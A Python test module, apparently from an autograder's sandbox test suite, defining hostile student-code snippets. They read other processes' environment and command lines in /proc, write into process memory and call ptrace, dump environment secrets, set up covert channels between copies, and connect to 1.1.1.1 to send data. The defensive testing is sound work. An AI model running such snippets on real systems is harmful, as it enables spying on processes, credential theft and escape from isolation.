"""Les autres : leurs processus, leur mémoire, les canaux que deux copies pourraient partager, le réseau."""

from .base import cheating
from .hostile import attack


@attack("processus", quick=True)
def looks_at_other_processes():
    """Lit dans /proc l'environnement, la ligne de commande, les descripteurs et le dossier de tout autre processus."""
    return cheating("""
    def look():
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for name in ("environ", "cmdline"):
                try:
                    text = open(f"/proc/{pid}/{name}", "rb").read()
                except OSError:
                    continue
                print(pid, name, text)
                if b"corriger" in text or b"nbgrader" in text or COURSE.encode() in text:
                    trophy(pid, name, text)
            for name in ("cwd", "root"):
                try:
                    if os.path.exists(f"/proc/{pid}/{name}{REPOSITORY}/pyproject.toml"):
                        trophy(pid, name)
                except OSError:
                    pass

    look()

    def cheat(*arguments):
        look()
        return blank(*arguments)
    """)


@attack("processus")
def writes_into_the_memory_of_others():
    """Ouvre /proc/<pid>/mem, appelle process_vm_readv et ptrace sur tous les processus visibles."""
    return cheating("""
    import ctypes

    danger()
    libc = ctypes.CDLL(None, use_errno=True)

    def attack():
        for pid in (int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()):
            for mode in ("rb", "r+b"):
                try:
                    with open(f"/proc/{pid}/mem", mode) as memory:
                        start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
                        memory.seek(start)
                        if b"examin" in memory.read(4096):
                            trophy(pid, mode)
                except (OSError, ValueError):
                    pass
            libc.ptrace(16, pid, 0, 0)

    def cheat(*arguments):
        attack()
        return blank(*arguments)
    """)


@attack("processus")
def prints_its_environment():
    """Affiche tout son environnement, où traîneraient jetons et mots de passe du correcteur."""
    return cheating("""
    for name, value in os.environ.items():
        print(name, "=", value)
    print(sys.argv, sys.orig_argv, sys.path, os.getcwd(), os.getuid(), os.getgroups())
    if os.getuid() == 0 and open("/proc/self/uid_map").read().split()[1] == "0":
        trophy("root")
    """)


SHARED = """
    import ctypes, glob, pathlib, socket, tempfile

    danger()
    MINE = "-".join(["MESSAGE", "D'UNE", "COPIE", "@JETON@"])
    places = {"/", "/tmp", "/dev/shm", "/var/tmp", "/run", "/run/lock", "/dev/mqueue", "/mnt", os.getcwd(), sys.prefix}
    for place in places | {os.path.expanduser("~"), tempfile.gettempdir(), os.path.dirname(np.__file__)}:
        for path in glob.glob(place + "/partage-*"):
            trophy(path)
        try:
            pathlib.Path(place, f"partage-{os.getpid()}-{time.time_ns()}").write_text(MINE)
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.shmget(0x1D1A, 4096, 0) >= 0:
        trophy("shm")
    libc.shmget(0x1D1A, 4096, 0o1666)
    if libc.syscall(249, b"user", b"partage", None, 0) >= 0:
        trophy("trousseau")
    for ring in (-3, -4, -5):
        libc.syscall(248, b"user", b"partage", b"message", 7, ring)
    server = socket.socket(socket.AF_UNIX)
    try:
        server.bind("\\0partage")
        server.listen()
    except OSError:
        trophy("abstrait")
    port = socket.socket()
    try:
        port.bind(("127.0.0.1", 45_671))
        port.listen()
    except OSError as error:
        if error.errno == 98:
            trophy("port")
    time.sleep(2)
    """


@attack("canaux")
def passes_messages_to_a_friend_first():
    """Laisse un message à une autre copie par les dossiers communs, la mémoire partagée, les clés et les sockets."""
    return cheating(SHARED)


@attack("canaux")
def passes_messages_to_a_friend_second():
    """Cherche, aux mêmes endroits, le message qu'une autre copie y aurait laissé, et en laisse un à son tour."""
    return cheating(SHARED)


@attack("réseau", quick=True)
def calls_home():
    """Se connecte à un service de la machine, à un socket abstrait, puis à l'extérieur, et y envoie ce qu'elle sait."""
    return cheating("""
    import socket

    def call(*arguments):
        places = [("127.0.0.1", int(bytes.fromhex("@PORT@"))), ("::1", int(bytes.fromhex("@PORT@"))), ("1.1.1.1", 53)]
        for place in places:
            try:
                with socket.create_connection(place, timeout=0.3) as stream:
                    stream.send(b"PIRATE")
                trophy(place)
            except OSError:
                pass
        with socket.socket(socket.AF_UNIX) as stream:
            stream.settimeout(0.3)
            try:
                stream.connect(b"\\0" + bytes.fromhex("@JETON@"))
                trophy("abstrait")
            except OSError:
                pass
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
            try:
                datagram.sendto(b"PIRATE", places[0])
            except OSError:
                pass

    call()
    """)
